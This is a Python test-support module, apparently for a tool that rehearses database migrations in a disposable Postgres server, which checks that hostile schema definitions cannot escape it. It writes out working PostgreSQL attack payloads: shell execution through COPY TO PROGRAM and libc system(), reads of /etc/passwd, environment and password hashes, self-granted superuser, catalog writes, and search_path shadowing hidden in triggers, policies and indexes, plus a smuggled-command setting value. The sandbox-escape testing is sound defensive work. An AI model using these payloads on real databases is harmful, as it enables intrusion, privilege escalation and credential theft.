"""Definitions and migrations that try to get out of the throwaway Postgres: what they try, and from where.

`evil.attack(place)` tries every payload once for each place from which it is called, once more if a superuser calls it,
and notes in `evil.loot` what succeeded. Nothing is tried in the database from which the definitions come.
"""

from __future__ import annotations

import json
import socket
import tempfile
import threading
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

import psycopg
from psycopg.conninfo import conninfo_to_dict

from rehearsal.servers.postgres import SUPERUSER
from tests.support.migrations import real_database

if TYPE_CHECKING:
    from collections.abc import Iterator

    from rehearsal.servers.postgres import Postgres

# What a payload does -> its statements. DIR is a folder that everybody may write to, PORT somebody who listens.
PAYLOADS = {
    "runs a program": "copy (select 1) to program 'touch DIR/CONTEXT-program'",
    "reads from a program": (
        "create temp table p_CONTEXT (l text); copy p_CONTEXT from program 'touch DIR/CONTEXT-from; echo 1'"
    ),
    "writes a file": "copy (select 1) to 'DIR/CONTEXT-file'",
    "reads a file with COPY": "create temp table f_CONTEXT (l text); copy f_CONTEXT from '/etc/passwd'",
    "reads a file": "select pg_read_file('/etc/passwd')",
    "reads the environment": "select pg_read_binary_file('/proc/self/environ')",
    "reads the server's files": "select pg_read_file('postmaster.pid')",
    "lists a folder": "select pg_ls_dir('/')",
    "exports a large object": "select lo_export(lo_from_bytea(0, 'x'), 'DIR/CONTEXT-lo')",
    "imports a large object": "select lo_import('/etc/passwd')",
    "writes with adminpack": "select pg_catalog.pg_file_write('DIR/CONTEXT-adminpack', 'x', false)",
    "connects with dblink": ("select dblink_connect('host=127.0.0.1 port=PORT user=u password=p connect_timeout=2')"),
    "connects to itself": (
        "select dblink_connect('host=' || current_setting('unix_socket_directories')"
        " || ' port=5432 user=postgres dbname=' || current_database())"
    ),
    "connects with postgres_fdw": (
        "create server s foreign data wrapper postgres_fdw options (host '127.0.0.1', port 'PORT');"
        " create user mapping for current_user server s options (user 'u', password 'p');"
        " create foreign table evil.far (i int) server s; select count(*) from evil.far"
    ),
    "reads with file_fdw": (
        "create server r foreign data wrapper file_fdw;"
        " create foreign table evil.near (l text) server r options (filename '/etc/passwd');"
        " select count(*) from evil.near"
    ),
    "subscribes": (
        "create subscription s connection 'host=127.0.0.1 port=PORT user=u password=p connect_timeout=2'"
        " publication p with (create_slot = false, enabled = false)"
    ),
    "calls C": (
        "create function evil.system(cstring) returns int language c"
        " as '/lib/x86_64-linux-gnu/libc.so.6', 'system'; select evil.system('touch DIR/CONTEXT-c')"
    ),
    "calls an internal function": (
        "create function evil.cat(text) returns text language internal as 'pg_read_file_all';"
        " select evil.cat('/etc/passwd')"
    ),
    "loads a library": "load 'plpgsql'",
    "makes a superuser": "create role evil_CONTEXT superuser",
    "becomes a superuser": "alter role current_user superuser",
    "becomes the first role": "set local role FIRST",
    "grants itself a right to run programs": "grant pg_execute_server_program to current_user",
    "takes the session of the first role": "set local session authorization FIRST",
    "takes a right to run programs": "set local role pg_execute_server_program",
    "takes a right to read files": "set local role pg_read_server_files",
    "makes an event trigger": "create event trigger evil_CONTEXT on ddl_command_end execute function evil.event()",
    "installs what is not trusted": "create extension pageinspect",
    "writes to the catalog": "update pg_authid set rolsuper = true where rolname = current_user",
    "reads passwords": "select rolpassword from pg_authid",
    "preloads a library": "alter role current_user set session_preload_libraries = 'plpgsql'",
    "reloads the configuration": "select pg_reload_conf()",
    "holds back the log": "select pg_create_physical_replication_slot('evil')",
}

ATTACK = """
create schema evil;
create table evil.loot (context text, what text);
create function evil.event() returns event_trigger language plpgsql as
    $$ begin perform evil.attack('event trigger'); end $$;
create function evil.attack(place text) returns boolean language plpgsql as $attack$
declare
    caller text := place || case current_setting('is_superuser') when 'on' then ' as a superuser' else '' end;
    payload record;
    statement text;
begin
    if current_database() ~ '^real' or exists (select from evil.loot l where l.context = caller) then
        return true;
    end if;
    insert into evil.loot values (caller, 'called');
    for payload in select * from json_each_text($json$PAYLOADS$json$) loop
        begin
            statement := replace(payload.value, 'CONTEXT', replace(caller, ' ', '_'));
            statement := replace(statement, 'FIRST', quote_ident((select rolname from pg_roles where oid = 10)));
            execute statement;
            reset role;
            insert into evil.loot values (caller, payload.key);
        exception when others then
            null;
        end;
    end loop;
    return true;
end
$attack$;
create function evil.quiet(context text, anything text) returns int immutable language plpgsql as
    $$ begin perform evil.attack(context); return 1; end $$;
"""

# The role of the DSN owns everything, and the real database lets it do what the copy must not.
GRANTED = ("pg_execute_server_program", "pg_read_server_files", "pg_write_server_files", SUPERUSER)

# From where the definitions call it: while they are made, while the table is filled, and after the migration.
DEFINITIONS = [
    "create domain evil.token as text check (evil.attack('domain of the token'))",
    "create domain evil.given as text check (evil.attack('domain'))",
    "alter table chatbots alter public_token drop default, alter public_token type evil.token",
    "alter table chatbots add constraint evil_check check (evil.attack('check'))",
    "alter table chatbots add constraint evil_check_of_name check (evil.quiet('check of one column', name) = 1)",
    "alter table chatbots add by_default boolean not null default evil.attack('default')",
    "alter table chatbots add generated int generated always as (evil.quiet('generated column', name)) stored",
    "alter table chatbots add made_up text",
    "update chatbots set made_up = 'x'",
    "alter table chatbots alter made_up set not null, alter made_up type evil.given",
    "create index evil_index on chatbots (evil.quiet('index', name))",
    "create index evil_partial on chatbots (id) where evil.quiet('partial index', name) = 1",
    "create statistics evil.statistics on (evil.quiet('statistics', name)), id from chatbots",
    (
        "create function evil.fire() returns trigger language plpgsql as"
        " $$ begin perform evil.attack(tg_argv[0]); return new; end $$"
    ),
    "create trigger a before insert or update on chatbots for each row execute function evil.fire('trigger')",
    "create trigger b before insert on chatbots for each row execute function evil.fire('always trigger')",
    "alter table chatbots enable always trigger b",
    "create trigger c before insert on chatbots for each row execute function evil.fire('replica trigger')",
    "alter table chatbots enable replica trigger c",
    "create policy d on chatbots using (evil.attack('policy'))",
    *(f"create policy to_{role} on chatbots to {role} using (true)" for role in GRANTED),
    "alter table chatbots enable row level security",
    "create rule e as on insert to chatbots do also select evil.attack('rule')",
    "create materialized view evil.seen as select evil.attack('materialized view')",
    "create event trigger evil_ddl on ddl_command_end execute function evil.event()",
    (
        "create function evil.owned() returns boolean language sql security definer as"
        " $$ select evil.attack('security definer') $$"
    ),
    f"alter function evil.owned() owner to {SUPERUSER}",
    "alter table chatbots add by_definer boolean not null default evil.owned()",
]
# A migration brings its own, and what runs of it after the migration.
MIGRATION = [
    "do $$ begin perform evil.attack('migration'); end $$",
    *(line for line in DEFINITIONS if "event trigger" not in line and "owned" not in line and "to_" not in line),
    (  # whose statements Postgres runs as a superuser
        "do $$ begin if exists (select from pg_available_extensions where name = 'hstore') then"
        " create extension hstore; end if; end $$"
    ),
    "create schema shadow",
    (
        "create function shadow.to_regclass(text) returns regclass language plpgsql as"
        " $$ begin perform evil.attack('shadowed function'); return pg_catalog.to_regclass($1); end $$"
    ),
    (
        "create function shadow.same(oid, oid) returns boolean language plpgsql as"
        " $$ begin perform evil.attack('shadowed operator'); return $1 operator(pg_catalog.=) $2; end $$"
    ),
    "create operator shadow.= (leftarg = oid, rightarg = oid, function = shadow.same)",
    "alter database rehearsed set search_path = shadow, pg_catalog, public",
    "alter role app set search_path = shadow, pg_catalog, public",
    "alter table chatbots force row level security",
    "update chatbots set name = name where id < 4",
]
# One that fails after it has put a view in the place of the table, which the failure is explained from.
VIEW = [
    "alter table chatbots rename to chatbots_before",
    "create view chatbots as select id, name, public_token from chatbots_before where evil.attack('view')",
    "select 'no uuid'::uuid",
]
EXTENSIONS = ("dblink", "postgres_fdw", "file_fdw", "adminpack", "citext", "uuid-ossp", "pgcrypto")
SETTING = "public,x;create/**/role/**/evil_by_setting/**/superuser;--"


@dataclass
class Attacked:
    """Where the attacks leave what shows that they got out."""

    folder: Path  # everybody may write to it
    port: int
    connections: list[str] = field(default_factory=list)  # who has connected

    def text(self, statement: str) -> str:
        """The statement with the folder and the port in it."""
        return statement.replace("DIR", str(self.folder)).replace("PORT", str(self.port))

    def outside(self) -> list[str]:
        """What was written or reached outside of the server."""
        return [*sorted(file.name for file in self.folder.iterdir()), *self.connections]


@contextmanager
def attacked() -> Iterator[Attacked]:
    """A folder and a listener that nothing of a rehearsal should find."""
    with (
        tempfile.TemporaryDirectory(prefix="outside-", dir="/tmp") as folder,
        socket.create_server(("127.0.0.1", 0)) as listener,
    ):
        Path(folder).chmod(0o777)
        target = Attacked(Path(folder), listener.getsockname()[1])

        def accept() -> None:
            while True:
                try:
                    client, address = listener.accept()
                except OSError:
                    return
                target.connections.append(f"a connection from {address[0]}")
                client.close()

        threading.Thread(target=accept, daemon=True).start()
        yield target
        listener.shutdown(socket.SHUT_RDWR)


def hostile_database(server: Postgres, *statements: str) -> str:
    """The DSN of a database that these definitions are in, as the role that owns them: for real it may do a lot."""
    database = str(conninfo_to_dict(real_database(server))["dbname"])
    role = server.new_name("hostile")
    usable = [name for name in EXTENSIONS if server.binaries.has_extension(name)]
    own = [
        f"create role {role} login",
        *(f"grant {granted} to {role}" for granted in GRANTED),
        f'alter database "{database}" owner to {role}',
        f"alter table chatbots owner to {role}",
        *(f'create extension if not exists "{name}"' for name in usable),
    ]
    server.run(database, [*own, *statements])
    return server.dsn(database, role)


def start_attack() -> str:
    """The statements that `evil.attack` comes from, with the payloads in them."""
    return ATTACK.replace("PAYLOADS", json.dumps(PAYLOADS))


def loot_of(dsn: str) -> tuple[set[str], list[str], list[str]]:
    """From where the attack was called, what succeeded, and which roles are superusers or its own."""
    with psycopg.connect(dsn) as connection:
        rows = connection.execute("select context, what from evil.loot order by 1, 2").fetchall()
        roles = connection.execute("select rolname from pg_roles where rolsuper or rolname ~ '^evil'").fetchall()
    called = {context for context, what in rows if what == "called"}
    return called, [f"{context}: {what}" for context, what in rows if what != "called"], [name for (name,) in roles]
